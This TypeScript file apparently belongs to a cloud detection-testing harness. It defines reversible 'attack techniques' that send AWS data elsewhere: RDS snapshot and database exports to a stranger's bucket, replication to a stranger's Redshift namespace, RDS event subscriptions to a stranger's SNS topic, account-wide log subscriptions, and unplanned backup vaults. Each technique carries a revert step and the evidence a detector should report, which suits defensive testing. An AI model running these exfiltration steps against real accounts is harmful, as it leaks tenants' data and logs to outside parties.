import {
  BackupClient,
  CreateBackupVaultCommand,
  DeleteBackupVaultCommand,
  DeleteRecoveryPointCommand,
  StartBackupJobCommand,
} from '@aws-sdk/client-backup';
import {
  CancelExportTaskCommand as CancelExportTaskOfLogs,
  CreateExportTaskCommand,
  DeleteAccountPolicyCommand,
  PutAccountPolicyCommand,
} from '@aws-sdk/client-cloudwatch-logs';
import {
  CancelExportTaskCommand,
  CreateEventSubscriptionCommand,
  CreateIntegrationCommand,
  DeleteEventSubscriptionCommand,
  DeleteIntegrationCommand,
  StartExportTaskCommand,
} from '@aws-sdk/client-rds';
import { type Subject, tenantIdOf } from '../../../functions/isolation/subject';
import { type AttackTechnique, STRANGER } from '../technique';

type ArnOf = (subject: Subject) => string;
const at = ({ region, accountId }: Subject, service: string, name: string) =>
  `arn:aws:${service}:${region}:${accountId}:${name}`;
const database: ArnOf = (subject) => at(subject, 'rds', `db:${subject.stacks.database.outputs.InstanceId}`);
const snapshot: ArnOf = (subject) =>
  at(subject, 'rds', `snapshot:rds:${subject.stacks.database.outputs.InstanceId}-2026-11-29`);
const somebodys: ArnOf = (subject) => at(subject, 'rds', 'snapshot:restored-for-support');

const exported = (name: string, source: ArnOf, key: ArnOf, S3BucketName: string): AttackTechnique => ({
  name,
  check: 'database.exports',
  detonate: async ({ subject, root: { rds } }) => {
    const ExportTaskIdentifier = `support-${S3BucketName}`;
    const IamRoleArn = `arn:aws:iam::${subject.accountId}:role/support`;
    const SourceArn = source(subject);
    await rds.send(
      new StartExportTaskCommand({ ExportTaskIdentifier, SourceArn, S3BucketName, KmsKeyId: key(subject), IamRoleArn }),
    );
    return {
      expectedEvidence: `of ${SourceArn} to bucket ${S3BucketName}`,
      revert: () => rds.send(new CancelExportTaskCommand({ ExportTaskIdentifier })),
    };
  },
});

const integrated = (name: string, target: ArnOf): AttackTechnique => ({
  name,
  check: 'database.integrations',
  detonate: async ({ subject, root: { rds } }) => {
    const integration = { IntegrationName: 'support', SourceArn: database(subject), TargetArn: target(subject) };
    const { IntegrationArn } = await rds.send(new CreateIntegrationCommand(integration));
    return {
      expectedEvidence: `integration support replicates ${integration.SourceArn} to ${integration.TargetArn}`,
      revert: () => rds.send(new DeleteIntegrationCommand({ IntegrationIdentifier: IntegrationArn })),
    };
  },
});

const subscribed = (name: string, destination: ArnOf): AttackTechnique => ({
  name,
  check: 'logs.account-policies',
  detonate: async ({ subject, root: { logs } }) => {
    const policy = { policyName: 'support', policyType: 'SUBSCRIPTION_FILTER_POLICY' as const };
    const policyDocument = JSON.stringify({ DestinationArn: destination(subject), FilterPattern: '' });
    await logs.send(new PutAccountPolicyCommand({ ...policy, policyDocument }));
    return {
      expectedEvidence: `policy support sends all logs of the account: ${policyDocument}`,
      revert: () => logs.send(new DeleteAccountPolicyCommand(policy)),
    };
  },
});

/** One recovery point, by hand. The stage's organization keeps nothing by AWS Backup then. */
const keptByBackup = (name: string, BackupVaultName: string, idOf: (subject: Subject) => string): AttackTechnique => ({
  name,
  check: 'database.copies',
  detonate: async ({ subject, aws }) => {
    const backup = new BackupClient(aws);
    const ResourceArn = at(subject, 'rds', `db:${idOf(subject)}`);
    const IamRoleArn = `arn:aws:iam::${subject.accountId}:role/support`;
    await backup.send(new CreateBackupVaultCommand({ BackupVaultName }));
    const { RecoveryPointArn } = await backup.send(
      new StartBackupJobCommand({ BackupVaultName, ResourceArn, IamRoleArn }),
    );
    return {
      expectedEvidence: `AWS Backup keeps ${RecoveryPointArn?.split(':snapshot:')[1]} of ${idOf(subject)}`,
      believed: { ...subject, placed: { ...subject.placed, keyUsers: [] } },
      revert: async () => {
        await backup.send(new DeleteRecoveryPointCommand({ BackupVaultName, RecoveryPointArn }));
        await backup.send(new DeleteBackupVaultCommand({ BackupVaultName }));
      },
    };
  },
});

const told = (name: string, SourceIds: (subject: Subject) => string[]): AttackTechnique => ({
  name,
  check: 'database.event-subscriptions',
  detonate: async ({ subject, root: { rds } }) => {
    const subscription = { SubscriptionName: `support-${SourceIds(subject).length}` };
    const SnsTopicArn = `arn:aws:sns:${subject.region}:${STRANGER}:theirs`;
    const about = { SourceType: 'db-instance', SourceIds: SourceIds(subject) };
    await rds.send(new CreateEventSubscriptionCommand({ ...subscription, SnsTopicArn, ...about }));
    return {
      expectedEvidence: `subscription ${subscription.SubscriptionName} tells ${SnsTopicArn} of events`,
      revert: () => rds.send(new DeleteEventSubscriptionCommand(subscription)),
    };
  },
});

const written = (name: string, groupOf: (subject: Subject) => string, destination: string): AttackTechnique => ({
  name,
  check: 'logs.exports',
  detonate: async ({ subject, root: { logs } }) => {
    const logGroupName = groupOf(subject);
    const { taskId } = await logs.send(
      new CreateExportTaskCommand({ logGroupName, from: 0, to: Date.now(), destination }),
    );
    return {
      expectedEvidence: `export ${taskId} writes log group ${logGroupName} to bucket ${destination}`,
      revert: () => logs.send(new CancelExportTaskOfLogs({ taskId })),
    };
  },
});

const supportsKey: ArnOf = (subject) => at(subject, 'kms', 'key/support');

export const COPIES_ELSEWHERE_TECHNIQUES: readonly AttackTechnique[] = [
  exported('export a snapshot into a stranger’s bucket', snapshot, supportsKey, 'strangers-exports'),
  exported('export the database into a bucket of the account', database, supportsKey, 'support-exports'),
  exported('export another snapshot under the tenant’s key', somebodys, ({ key }) => key.keyArn, 'support-restored'),
  keptByBackup(
    'keep the database in a vault, by no plan',
    'support-vault',
    ({ stacks }) => stacks.database.outputs.InstanceId,
  ),
  keptByBackup(
    'keep the replica in a vault, by no plan',
    'reports-vault',
    ({ stacks }) => stacks.database.outputs.ReplicaId ?? '',
  ),
  integrated('replicate the database into a data warehouse', (subject) =>
    at(subject, 'redshift-serverless', 'namespace/support'),
  ),
  integrated('replicate the database into a lake', (subject) => at(subject, 'glue', 'catalog/support')),
  integrated(
    'replicate the database into a stranger’s data warehouse',
    ({ region }) => `arn:aws:redshift:${region}:${STRANGER}:namespace:theirs`,
  ),
  told('tell a stranger of the database’s events', ({ stacks }) => [stacks.database.outputs.InstanceId]),
  told('tell a stranger of every database’s events', () => []),
  written(
    'export the database’s log into a stranger’s bucket',
    ({ stacks }) => `/aws/rds/instance/${stacks.database.outputs.InstanceId}/postgresql`,
    'theirs',
  ),
  written(
    'export the flow logs into a bucket of the account',
    (subject) => `/tenants/${tenantIdOf(subject)}/flow-logs`,
    'support-exports',
  ),
  subscribed('send all logs of the account to a stranger', ({ region }) => `arn:aws:logs:${region}:${STRANGER}:all`),
  subscribed('send all logs of the account into a stream', (subject) => at(subject, 'kinesis', 'stream/support')),
  subscribed('send all logs of the account to a function', (subject) => at(subject, 'lambda', 'function:support')),
];
